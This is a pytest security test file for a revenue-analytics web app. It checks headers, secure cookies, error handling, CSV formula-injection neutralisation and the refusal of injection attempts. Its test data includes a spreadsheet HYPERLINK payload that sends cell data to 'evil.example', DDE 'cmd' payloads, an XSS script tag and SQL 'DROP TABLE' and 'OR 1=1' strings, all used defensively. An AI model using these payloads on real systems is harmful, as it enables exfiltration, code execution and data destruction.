"""Security controls every answer carries (issue 13 §2; docs/security.md maps them to OWASP ASVS).

- Security headers (CSP without inline script or style, frame-ancestors none, nosniff, a
  referrer policy) on pages, API answers, sign-in, errors and static files; with
  ``secure=True`` HSTS and a ``Secure`` session cookie.
- An unexpected error answers the one error shape and keeps the keep-alive connection usable.
- CSV exports neutralise cells a spreadsheet would run as formulas; numbers stay numbers.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from web_helpers import PASSWORD, WebSetup, login, served

from revline.ingest import import_file
from revline.serialize import to_csv
from revline.warehouse import Warehouse
from revline.web import create_app
from revline.web.headers import CSP
from revline.web.users import UserStore, users_path

EXPECTED = {
    "content-security-policy": CSP,
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
}
#: Payloads of the issue (and OWASP's CSV injection page) as imported account ids.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
)


def test_csp_has_no_inline_allowance() -> None:
    assert "unsafe-inline" not in CSP and "unsafe-eval" not in CSP
    assert "frame-ancestors 'none'" in CSP and "script-src 'self'" in CSP


def test_every_kind_of_answer_has_the_security_headers(web: WebSetup) -> None:
    with web.client() as client:
        answers = {
            "sign-in page": client.get("/login"),
            "unauthenticated API (401)": client.get("/api/revenue"),
            "unknown path (404)": client.get("/api/nothing-here", headers=web.auth("chief")),
            "API answer": client.get("/api/me", headers=web.auth("chief")),
            "stylesheet": client.get("/static/style.css"),
            "refused (403)": client.get("/api/rows/new_mrr", headers=web.auth("mkt")),
        }
        login(client, "chief")
        answers["page"] = client.get("/overview")
    for what, response in answers.items():
        for name, value in EXPECTED.items():
            assert response.headers.get(name) == value, (what, name)
        assert "strict-transport-security" not in response.headers, what
    assert answers["page"].status_code == 200
    assert answers["unknown path (404)"].status_code == 404


def test_secure_mode_sends_hsts_and_a_secure_cookie(web: WebSetup) -> None:
    app = create_app(web.warehouse, secure=True)
    try:
        client = TestClient(app, base_url="https://testserver", raise_server_exceptions=False)
        page = client.get("/login")
        assert page.headers["strict-transport-security"].startswith("max-age=31536000")
        cookie = page.headers.get("set-cookie", "")
        assert "revline_session=" in cookie and "secure" in cookie.lower()
        login(client, "chief")
        assert client.get("/overview").status_code == 200
    finally:
        app.state.web.close()


@pytest.fixture
def failing_server(web: WebSetup) -> Iterator[tuple[str, int]]:
    """A second app over the same warehouse, with one route that fails, served by uvicorn."""
    app: FastAPI = create_app(web.warehouse)

    @app.get("/api/boom")
    def boom() -> None:
        raise RuntimeError("secret detail that must not leak")

    try:
        with served(app, log_level="critical") as port:
            yield "127.0.0.1", port
    finally:
        app.state.web.close()


def test_a_500_keeps_the_connection_and_the_error_shape(
    web: WebSetup, failing_server: tuple[str, int]
) -> None:
    host, port = failing_server
    conn = http.client.HTTPConnection(host, port, timeout=60)
    try:
        auth = {"Authorization": f"Bearer {web.tokens['chief']}"}
        conn.request("GET", "/api/boom", headers=auth)
        first = conn.getresponse()
        body = json.loads(first.read())
        assert first.status == 500
        assert body["ok"] is False and body["status"] == 500 and body["error"] == "Internal error."
        assert "secret detail" not in json.dumps(body)
        assert first.getheader("x-content-type-options") == "nosniff"
        assert (first.getheader("connection") or "").lower() != "close"
        # The same connection answers the next request.
        conn.request("GET", "/api/me", headers=auth)
        second = conn.getresponse()
        assert second.status == 200, second.read()
        assert json.loads(second.read())["username"] == "chief"
    finally:
        conn.close()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_that_start_a_formula_are_neutralised(payload: str) -> None:
    text = to_csv([{"id": payload, "amount": "-12.50", "count": -3, "share": 0.25}])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["id"] == "'" + payload
    assert (row["amount"], row["count"], row["share"]) == ("-12.50", "-3", "0.25")


@pytest.mark.parametrize("number", ["-12.50", "+3", "-1e-3", "-.5", "42"])
def test_numbers_stay_numbers_in_csv(number: str) -> None:
    row = next(csv.DictReader(io.StringIO(to_csv([{"v": number}]))))
    assert row["v"] == number


#: The payloads an id can carry: the importer strips surrounding whitespace from ids (tab and
#: carriage return included), so "\t=1+1" arrives as "=1+1", which the export neutralises too.
ID_PAYLOADS = tuple(p for p in PAYLOADS if not p[0].isspace())


def test_drill_down_csv_of_imported_payload_ids(tmp_path: Path) -> None:
    """End to end: account ids carrying the payloads, imported, then exported by /rows."""
    lines = ["subscription_id,account_id,quantity,unit_amount,currency,start_at,end_at,is_trial"]
    for i, payload in enumerate(ID_PAYLOADS):
        quoted = '"' + payload.replace('"', '""') + '"'
        lines.append(f"s{i},{quoted},1,100.00,USD,2024-01-01,,false")
    source = tmp_path / "subscriptions.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    path = tmp_path / "evil.duckdb"
    with Warehouse.create(path) as wh:
        result = import_file(wh, "subscriptions", source, source="billing")
    assert result.inserted == len(ID_PAYLOADS), result
    store = UserStore(users_path(path))
    store.add("admin", PASSWORD, "admin", ())
    token = store.create_token("admin", "tests")
    app = create_app(path)
    try:
        client = TestClient(app, raise_server_exceptions=False)
        answer = client.get(
            "/rows/mrr.csv?period=2024-01", headers={"Authorization": f"Bearer {token}"}
        )
        assert answer.status_code == 200, answer.text
        rows = list(csv.DictReader(io.StringIO(answer.text)))
        assert len(rows) == len(ID_PAYLOADS)
        ids = {row["account_id"] for row in rows}
        assert ids == {"'" + p for p in ID_PAYLOADS}
        assert {row["end_mrr"] for row in rows} == {"100.00"}
    finally:
        app.state.web.close()


@pytest.mark.parametrize(
    "url",
    [
        "/retention?segment=%3Cscript%3Ealert(1)%3C/script%3E",
        "/api/metrics/mrr?by=segment%3B%20DROP%20TABLE%20accounts",
        "/api/metrics/mrr?period=2025%27%20OR%201=1--",
        "/rows/mrr?period=2025-Q4&by=segment&value=%27%3B%20DROP%20TABLE%20accounts%3B--",
    ],
)
def test_injection_attempts_are_refused_and_escaped(web: WebSetup, url: str) -> None:
    with web.client() as client:
        answer = client.get(url, headers=web.auth("chief"))
        assert answer.status_code == 422, answer.text
        assert "<script>alert" not in answer.text
        assert client.get("/api/metrics/customers", headers=web.auth("chief")).status_code == 200
